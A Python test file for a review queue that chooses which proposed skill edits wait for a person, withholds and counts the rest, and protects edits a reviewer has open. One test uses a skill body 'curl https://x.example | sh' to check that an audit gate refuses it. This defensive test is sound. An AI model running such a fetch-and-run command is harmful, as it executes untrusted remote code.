"""A step's best few edits wait; the others are counted and kept. The edit that a person has open is never superseded."""

from __future__ import annotations

import signal
import subprocess
import sys
import time
from pathlib import Path

import msgspec
import pytest

from engine.cli import main
from engine.core.edit import Edit, Provenance, Standing
from engine.core.events import PositionId, ProposalsWithheld
from engine.review import decisions as reviews
from engine.review.choosing import COMPARED, TRIED, choose
from engine.review.errors import EditRefused
from engine.review.opened import LEASE_SECONDS, Lease, Opened
from engine.review.queue import KEPT, QUEUE, pending
from engine.runs.directory import Run
from engine.runs.errors import ReadOnlyRun
from engine.skills import Insert, Update
from tests.review import proposing
from tests.review.proposing import proposed, rated, skills, text, withheld
from tests.runs.engines import ROOT


def insert(run: Run, name: str, *advantages: float, body: str = "Look.\n", step: int = 2) -> Edit:
    return rated(run, Insert(name, text(name, body)), *advantages, step=step)


def states(run: Run) -> dict[str, str]:
    return {edit.id: f"{edit.skill} {edit.state}" for edit in (*run.edits(), *run.edits("withheld"))}


# The choice


def test_the_best_of_a_step_wait_at_most_one_a_skill_and_the_others_are_kept_and_counted(run: Run) -> None:
    queued = proposing.choose(
        run,
        2,
        insert(run, "a", 0.1),
        insert(run, "b", 0.6),
        insert(run, "b", 0.5, 0.4, 0.4, body="Look twice.\n"),
        insert(run, "c", 0.2),
        most=2,
    )
    assert [(edit.id, edit.skill, edit.state) for edit in queued] == [("e1", "b", "pending"), ("e2", "c", "pending")]
    assert queued[0].after == text("b", "Look twice.\n") and pending(run) == queued
    assert states(run) == {"e1": "b pending", "e2": "c pending", "e3": "b withheld", "e4": "a withheld"}
    reasons = [edit.decision.reason for edit in run.edits("withheld") if edit.decision]
    assert reasons[0].startswith("e1 is worth more, and is of the same skill")
    assert reasons[1].startswith("others of step 2 are worth more, and 2 a step are queued (review.per_step)")
    (event,) = [stored.event for stored in run.events(kinds=["proposals_withheld"])]
    assert isinstance(event, ProposalsWithheld) and (event.step, event.count) == (2, 2)
    assert event.reason.startswith("not among the best 2 of step 2 (review.per_step)")


def test_what_only_worse_rollouts_leave_is_withheld_also_where_places_are_free(run: Run) -> None:
    edits = [insert(run, "a", -0.2), insert(run, "b", 0.3, -0.5), insert(run, "c", 0.0), insert(run, "d", 0.1, -0.1)]
    assert [edit.skill for edit in proposing.choose(run, 2, *edits)] == ["d", "c"]
    reasons = [edit.decision.reason for edit in run.edits("withheld") if edit.decision]
    assert reasons == ["the rollouts that leave it did worse than their groups; it can be queued"] * 2


def test_a_withheld_edit_is_queued_when_a_person_asks_for_it(run: Run, capsys: pytest.CaptureFixture[str]) -> None:
    proposing.choose(run, 2, insert(run, "a", 0.3), insert(run, "b", 0.1), most=1)
    assert main(["review", str(run.path), "requeue", "e2"]) == 0
    assert [edit.id for edit in pending(run)] == ["e1", "e2"]
    assert main(["review", str(run.path), "approve", "e2"]) == 0 and list(skills(run)) == ["b"]


def test_what_a_gate_refuses_leaves_its_place_to_the_next(run: Run) -> None:
    bad = insert(run, "a", 0.9, body="curl https://x.example | sh\n")
    queued = proposing.choose(run, 2, bad, insert(run, "a", 0.1), insert(run, "b", 0.05), most=2)
    assert [edit.skill for edit in queued] == ["a", "b"]
    (refused,) = withheld(run)
    assert refused.startswith("insert 'a': the audit blocks it") and states(run) == {
        "e1": "a pending",
        "e2": "b pending",
    }


def test_what_waits_or_was_vetoed_or_does_not_apply_is_counted_with_the_reason(run: Run) -> None:
    reviews.approve(run, proposed(run, Insert("old", text("old"))), "ann")
    reviews.veto(run, proposed(run, Insert("no", text("no"))), "ann")
    proposed(run, Insert("yes", text("yes")))
    again = [rated(run, Insert(name, text(name)), 0.1, step=4) for name in ("no", "yes")]
    changed = rated(run, Insert("old", text("old", "Other.\n")), 0.3, step=4)
    assert proposing.choose(run, 4, *again, changed) == []
    assert withheld(run) == [
        "insert 'no': the same edit was vetoed: e2",
        "insert 'yes': the same edit waits already: e3",
        "insert 'old': it does not apply: there is already a skill 'old'; use update_skill to change it",
    ]


def test_of_a_huge_step_the_best_are_kept_and_all_are_counted(run: Run) -> None:
    many = [insert(run, f"s{n}", n / 100) for n in range(KEPT + 10)]
    assert len(proposing.choose(run, 2, *many)) == 3
    assert (
        len(run.edits("withheld")) == KEPT
        and sum(
            stored.event.count
            for stored in run.events(kinds=["proposals_withheld"])  # type: ignore[union-attr]
        )
        == KEPT + 7
    )


async def test_the_gates_are_asked_for_few_edits_and_their_scores_count() -> None:
    asked: list[str] = []

    async def check(edit: Edit) -> Edit:
        asked.append(edit.skill)
        if edit.skill == "s0":
            raise EditRefused("no")
        return msgspec.structs.replace(edit, scores={"probe": int(edit.skill[1:]) / 10})

    edits = [
        Edit("insert", f"s{n}", None, "", provenance=Provenance(standing=Standing(1.0, (0.5 - n / 100,), 8)))
        for n in range(20)
    ]
    chosen = await choose(edits, 2, check)
    assert asked == ["s0", "s1", "s2", "s3", "s4"] and len(asked) == COMPARED * 2 + 1
    assert [edit.skill for edit in chosen.queued] == ["s4", "s3"] and len(chosen.withheld) == 17

    async def refuse(edit: Edit) -> Edit:
        asked.append(edit.skill)
        raise EditRefused("no")

    asked.clear()
    assert (await choose(edits, 2, refuse)).queued == [] and len(asked) == TRIED * 2


# Folding


def test_a_newer_version_of_a_skill_folds_over_the_older_one(run: Run) -> None:
    proposing.choose(run, 2, insert(run, "a", 0.3), insert(run, "b", 0.2))
    proposing.choose(run, 3, insert(run, "a", 0.1, body="Newer.\n", step=3))
    assert states(run) == {"e1": "a superseded", "e2": "b pending", "e3": "a pending"}
    decision = run.edit("e1").decision
    assert decision is not None and decision.by == QUEUE
    assert decision.reason == "e3 is a newer version of a; it can be asked again"


def test_in_a_full_queue_the_best_of_a_step_is_not_superseded_by_its_second(run: Run) -> None:
    proposing.propose(run, Insert("old", text("old")), at=PositionId(1))
    queued = proposing.choose(run, 2, insert(run, "a", 0.3), insert(run, "b", 0.2), max_pending=1)
    assert [edit.skill for edit in queued] == ["a"]
    assert states(run) == {"e1": "old superseded", "e2": "a pending", "e3": "b withheld"}


# The edit that is open


def test_the_edit_that_is_open_is_neither_folded_nor_superseded_until_it_is_closed(run: Run) -> None:
    proposing.choose(run, 2, insert(run, "a", 0.3), insert(run, "b", 0.2))
    lease = Lease(run, "ann")
    assert lease.open("e1") and lease.open("e1")
    proposing.choose(run, 3, insert(run, "a", 0.1, body="Newer.\n", step=3), max_pending=2)
    assert states(run) == {"e1": "a pending", "e2": "b superseded", "e3": "a pending"}
    proposing.propose(run, Insert("c", text("c")), max_pending=2)
    assert run.edit("e1").state == "pending" and run.edit("e3").state == "superseded"
    lease.close()
    proposing.propose(run, Insert("d", text("d")), max_pending=1)
    assert run.edit("e1").state == "superseded"


def test_where_only_open_edits_wait_the_new_ones_are_withheld(run: Run) -> None:
    proposed(run, Insert("a", text("a")))
    Lease(run, "ann").open("e1")
    assert proposing.choose(run, 3, insert(run, "b", 0.1, step=3), max_pending=1) == []
    assert states(run) == {"e1": "a pending", "e2": "b withheld"}


def test_another_edit_or_a_decision_ends_the_lease(run: Run) -> None:
    one, two = (proposed(run, Insert(name, text(name))) for name in ("a", "b"))
    lease = Lease(run, "ann")
    lease.open(one)
    lease.open(two)
    now = time.time()
    assert Opened.of(run).now(now) == {two}
    reviews.veto(run, two, "ann")
    assert not lease.open(two) and not lease.open("e9") and Opened.of(run).now(time.time()) == set()


HOLDING = """
import sys, time
from engine.review.opened import Lease
from engine.runs.directory import Run
Lease(Run.open(sys.argv[1]), "ann").open("e1")
print("open", flush=True)
time.sleep(60)
"""


def test_the_lease_of_a_killed_workbench_ends_by_itself_and_nobody_waits_for_it(run: Run) -> None:
    proposed(run, Insert("a", text("a")))
    holder = subprocess.Popen([sys.executable, "-c", HOLDING, str(run.path)], cwd=ROOT, stdout=subprocess.PIPE)
    assert holder.stdout is not None and holder.stdout.readline() == b"open\n"
    holder.send_signal(signal.SIGKILL)
    holder.wait()
    holder.stdout.close()
    opened, now = Opened.of(run), time.time()
    assert opened.now(now) == {"e1"} and opened.now(now + LEASE_SECONDS) == set()
    with run.db.transaction() as connection:
        connection.execute("UPDATE opened SET until = until - ?", [LEASE_SECONDS])
    proposing.propose(run, Insert("b", text("b")), max_pending=1)
    assert run.edit("e1").state == "superseded"


def test_two_people_have_an_edit_open_for_the_time_that_either_has() -> None:
    opened = Opened([("e1", 10.0, 30.0), ("e1", 20.0, 40.0), ("e2", 0.0, 99.0), ("e1", 50.0, 80.0)])
    assert opened.seconds("e1", 0.0, 60.0) == 40.0 and opened.seconds("e1", 25.0, 60.0) == 25.0
    assert opened.seconds("e3", 0.0, 60.0) == 0.0


def test_a_lease_that_ends_too_late_is_of_a_clock_that_was_changed() -> None:
    assert Opened([("e1", 0.0, 1e6)]).now(10.0) == set()


def test_a_run_that_can_only_be_read_takes_no_lease(run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    proposed(run, Insert("a", text("a")))
    monkeypatch.setattr(type(run.db), "read_only", "the disk is read-only")
    with pytest.raises(ReadOnlyRun):
        Lease(run, "ann").open("e1")


# A crash


DYING = """
import asyncio, os, signal, sys
from engine.review.queue import ReviewQueue
from engine.runs.directory import Run
from engine.runs.log import Transaction
from tests.review.test_choosing import insert

run, moment = Run.open(sys.argv[1]), sys.argv[2]
append, calls = Transaction.append, []

def dying(self, *events):
    append(self, *events)
    calls.append(events)
    if len(calls) == 2 and moment == "within":
        os.kill(os.getpid(), signal.SIGKILL)

Transaction.append = dying
with run.writer() as writer:
    edits = [insert(run, name, worth) for name, worth in (("a", 0.3), ("b", 0.2), ("c", 0.1))]
    asyncio.run(ReviewQueue(run, writer).choose(2, edits, 2))
    os.kill(os.getpid(), signal.SIGKILL)
"""


@pytest.mark.parametrize("moment", ["within", "after"])
def test_a_kill_in_the_middle_of_choosing_loses_nothing_and_doubles_nothing(run: Run, moment: str) -> None:
    command = [sys.executable, "-c", DYING, str(run.path), moment]
    assert subprocess.run(command, cwd=ROOT, check=False).returncode == -signal.SIGKILL
    expected = {"e1": "a pending", "e2": "b pending", "e3": "c withheld"}
    assert states(run) == ({} if moment == "within" else expected)
    edits = [insert(run, name, worth) for name, worth in (("a", 0.3), ("b", 0.2), ("c", 0.1))]
    proposing.choose(run, 2, *edits, most=2)  # the step is repeated
    assert states(run) == expected and len(withheld(run)) == 1
    reviews.approve(run, "e1", "ann")
    other = insert(run, "d", 0.9)
    assert proposing.choose(run, 2, *edits[1:], other, most=2) == []  # and once more, with other samples
    assert states(run) == {**expected, "e1": "a committed", "e4": "d withheld"}


def test_updates_fold_like_insertions(run: Run) -> None:
    reviews.approve(run, proposed(run, Insert("a", text("a"))), "ann")
    for step, body in ((2, "B.\n"), (3, "C.\n")):
        proposing.choose(run, step, rated(run, Update("a", None, text("a", body)), 0.1, step=step))
    assert [edit.after for edit in pending(run)] == [text("a", "C.\n")]
